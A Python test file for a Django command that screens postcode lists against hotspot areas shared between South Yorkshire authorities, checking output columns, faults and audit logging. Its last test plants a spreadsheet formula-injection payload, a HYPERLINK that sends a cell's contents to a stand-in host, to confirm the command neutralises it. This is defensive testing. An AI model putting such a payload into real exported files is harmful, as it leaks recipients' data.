"""Does `bin/manage screen` say for each postcode what the authority may know, as worked out by others, and log it?"""

import csv
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from audit.models import LogEntry
from geo.importers.postcodes import load_directory
from geo.models import Postcode, PostcodeDirectory
from hotspots.models import Asking, Disclosure, Share
from tests.geo.sources import WrittenSource
from tests.hotspots.world import (
    BARNSLEY,
    DONCASTER,
    EAST,
    NORTH,
    ROTHERHAM,
    SHEFFIELD,
    acting,
    authority,
    load,
    polygon,
    publish,
    share,
    square,
)

HEADING = ["postcode", "state", "inside_refs", "nearest_ref", "nearest_metres", "within_refs"]
# On the square of 200 metres halfway up: inside it, 300 metres east of its edge, and 3,800 metres.
POSTCODES = [
    ("S60 1AA", ROTHERHAM, EAST + 100, NORTH + 100, ""),
    ("S60 1AB", ROTHERHAM, EAST + 500, NORTH + 100, ""),
    ("S60 1AD", ROTHERHAM, EAST + 4_000, NORTH + 100, ""),
    ("BT1 1AA", "N09000003", 146_000, 530_000, ""),
]


@pytest.fixture
def postcodes(committing):
    lay(POSTCODES)


def lay(rows):
    """These postcodes and no others."""
    Postcode.objects.using("owner").all().delete()
    PostcodeDirectory.objects.using("owner").all().delete()
    load_directory(WrittenSource(rows))


def screen(tmp_path, *postcodes, code=SHEFFIELD, radius_metres=500):
    """The rows on standard output, and the lines on standard error."""
    path = tmp_path / "postcodes.csv"
    path.write_text("\n".join(["postcode", *postcodes]) + "\n", encoding="utf-8")
    return screen_file(path, code=code, radius_metres=radius_metres)


def screen_file(path, *, code=SHEFFIELD, radius_metres=500):
    out, err = StringIO(), StringIO()
    call_command("screen", str(path), code=code, radius_metres=radius_metres, stdout=out, stderr=err)
    return [list(row.values()) for row in csv.DictReader(StringIO(out.getvalue()))], err.getvalue().splitlines()


def test_at_geometry_level_each_row_has_references_and_metres(postcodes, tmp_path):
    publish(ROTHERHAM, square("R1"), to=SHEFFIELD, level=Share.Level.GEOMETRY)
    rows, faults = screen(tmp_path, "S60 1AA", "s601ab", "S60 1AD")
    assert rows == [
        ["S60 1AA", "near", "R1", "", "0.0", "R1"],
        ["s601ab", "near", "", "R1", "300.0", "R1"],
        ["S60 1AD", "nothing_near", "", "R1", "3800.0", ""],
    ]
    assert faults == []


def test_below_geometry_level_references_and_metres_are_blank(postcodes, tmp_path):
    publish(ROTHERHAM, square("R1"), to=SHEFFIELD, distance_metres=600)
    rows, _ = screen(tmp_path, "S60 1AA", "S60 1AD")
    assert rows == [["S60 1AA", "near", "", "", "", ""], ["S60 1AD", "nothing_near", "", "", "", ""]]


def test_of_two_equally_near_the_reference_that_comes_first_is_named(postcodes, tmp_path):
    publish(
        ROTHERHAM,
        square("Z", geometry=polygon(EAST + 800, NORTH)),
        square("A", geometry=polygon(EAST, NORTH)),
        to=SHEFFIELD,
        level=Share.Level.GEOMETRY,
    )
    rows, _ = screen(tmp_path, "S60 1AB", radius_metres=300)
    assert rows == [["S60 1AB", "near", "", "A", "300.0", "A|Z"]]


def test_our_own_areas_count_and_the_state_stays_the_hosts(postcodes, tmp_path):
    publish(SHEFFIELD, square("S1"), to=BARNSLEY)
    rows, _ = screen(tmp_path, "S60 1AB")
    assert rows == [["S60 1AB", "shares_nothing", "", "S1", "300.0", "S1"]]


def test_stale_areas_keep_their_references(postcodes, tmp_path):
    publish(ROTHERHAM, square("R1", valid_to="2020-01-31"), to=SHEFFIELD, level=Share.Level.GEOMETRY)
    rows, _ = screen(tmp_path, "S60 1AB")
    assert rows == [["S60 1AB", "stale", "", "R1", "300.0", "R1"]]


def test_a_row_that_cannot_be_answered_is_blank_and_named_by_its_number(postcodes, tmp_path):
    publish(ROTHERHAM, square("R1"), to=SHEFFIELD)
    rows, faults = screen(tmp_path, "S60 1AA", "nonsense", "S1 1AA", "BT1 1AA")
    assert [row[1] for row in rows] == ["near", "", "", ""]
    assert [row[0] for row in rows] == ["S60 1AA", "nonsense", "S1 1AA", "BT1 1AA"]
    assert [fault.split(":")[0] for fault in faults] == ["Row 2", "Row 3", "Row 4"]
    assert "not a United Kingdom postcode" in faults[0]
    assert "does not hold this postcode" in faults[1]


def test_a_file_without_the_column_is_refused(postcodes, tmp_path):
    path = tmp_path / "list.csv"
    path.write_text("place\nS60 1AA\n")
    with pytest.raises(CommandError, match=r"list\.csv has no column postcode"):
        screen_file(path)


def test_a_list_is_disclosed_to_the_owners_and_logged_by_numbers_alone(postcodes, tmp_path):
    publish(ROTHERHAM, square("R1"), to=SHEFFIELD, level=Share.Level.GEOMETRY)
    screen(tmp_path, "S60 1AA", "S60 1AB", "S60 1AD")
    with acting(SHEFFIELD):
        told = Disclosure.objects.filter(sender=authority(ROTHERHAM))
        assert {(one.purpose, one.level) for one in told} == {("screening a list of postcodes", "geometry")}
        line = LogEntry.objects.get(operation="hotspots.screen")
        assert Asking.objects.get().places == 3
    assert line.detail == {"rows": 3, "radius_metres": 500}


def test_with_geometry_level_everywhere_it_is_the_overlay_worked_out_by_others(committing, tmp_path, shared_data):
    """All 1,692 postcodes of South Yorkshire and all five columns, from the file in National Grid metres."""
    folder = shared_data / "hotspots"
    with open(folder / "expected_postcode_overlay.csv", encoding="utf-8", newline="") as file:
        expected = list(csv.DictReader(file))
    assert len(expected) == 1_692
    lay([(row["postcode"], row["utla_gss"], row["easting"], row["northing"], "") for row in expected])
    owners = (ROTHERHAM, SHEFFIELD, DONCASTER, BARNSLEY)
    content = (folder / "formats" / "hotspots_27700_legacy_crs.geojson").read_bytes()
    for code in owners:
        imported = load(code, content=content)
        for partner in {*owners} - {code}:
            share(code, imported.hotspot_ids, partner, Share.Level.GEOMETRY)
    rows, faults = screen_file(folder / "expected_postcode_overlay.csv")
    assert faults == []
    assert [[row[0], *row[2:4], row[5]] for row in rows] == [
        [row["postcode"], row["inside_refs"], row["nearest_ref"], row["within_500m_refs"]] for row in expected
    ]
    assert [row[4] for row in rows] == [f"{float(row['nearest_distance_m']):.1f}" for row in expected]


def test_a_reference_that_a_spreadsheet_would_run_is_made_harmless_on_a_partners_desk(postcodes, tmp_path):
    formula = '=HYPERLINK("https://elsewhere.example/?"&A1,"A1")'
    publish(ROTHERHAM, square(formula), to=SHEFFIELD, level=Share.Level.GEOMETRY)
    rows, _ = screen(tmp_path, "S60 1AA", "S60 1AB")
    assert rows == [
        ["S60 1AA", "near", f"'{formula}", "", "0.0", f"'{formula}"],
        ["S60 1AB", "near", "", f"'{formula}", "300.0", f"'{formula}"],
    ]
